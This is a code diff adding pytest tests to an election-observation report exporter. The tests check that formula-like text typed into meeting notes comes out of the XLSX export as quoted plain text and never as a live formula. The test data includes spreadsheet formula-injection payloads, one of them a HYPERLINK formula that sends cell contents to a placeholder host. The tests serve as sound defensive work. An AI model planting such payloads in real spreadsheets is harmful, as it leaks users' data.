@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import datetime as dt
 import io
 import re
+import zipfile
 from xml.etree import ElementTree
 
 import pytest
@@ -18,7 +20,7 @@ from reports.charts import BarChart, Series, to_png, to_svg
 from reports.drafting import draft_sentences
 from reports.exports import render_export
 from reports.markdown import render_markdown
-from tests.factories import make_user
+from tests.factories import make_party_meeting, make_user
 from tests.reports.factories import build_world, make_report
 
 pytestmark = pytest.mark.django_db
@@ -119,3 +121,53 @@ def test_html_has_a_table_of_contents_linking_every_section():
     assert len(anchors) == 10
     for anchor in anchors:
         assert f'id="{anchor}"' in html
+
+
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_xlsx_writes_text_that_looks_like_a_formula_as_text():
+    """An observer typed ``=HYPERLINK(...)`` into a party meeting: the export shows it as
+    text, exactly as typed, and the workbook holds no formula at all (docs/reports.md)."""
+    world = build_world(districts=1, incidents_per_district=1)
+    analyst = make_user(Role.ANALYST)
+    district = world.districts[0]
+    for n, concerns in enumerate(FORMULAS):
+        make_party_meeting(
+            party=world.parties[0],
+            district=district,
+            date=world.election.observation_start + dt.timedelta(days=n),
+            concerns=concerns,
+        )
+    report = make_report(world.election, actor=analyst, title="=1+2 report")
+    document = queries.report_document(queries.report_with_parts().get(pk=report.pk))
+    raw = render_export(document, "xlsx")
+    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
+    book = load_workbook(io.BytesIO(raw))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value]
+    typed = {c.value: c for c in cells if c.value in FORMULAS or c.value == "=1+2 report"}
+    assert set(typed) == {*FORMULAS, "=1+2 report"}
+    assert all(c.data_type == "s" and c.quotePrefix for c in typed.values())
+    assert not any(c.data_type == "f" for c in cells)
+    # numbers stay numbers
+    assert any(isinstance(c.value, int) for c in cells)
+
+
+def test_write_cell_leaves_ordinary_values_alone():
+    from openpyxl import Workbook
+
+    from observation.kernel.spreadsheets import write_cell
+
+    sheet = Workbook().active
+    assert write_cell(sheet, 1, 1, "Bishkek").quotePrefix is False
+    assert write_cell(sheet, 1, 2, -5).data_type == "n"
+    assert write_cell(sheet, 1, 3, "=A1").data_type == "s"
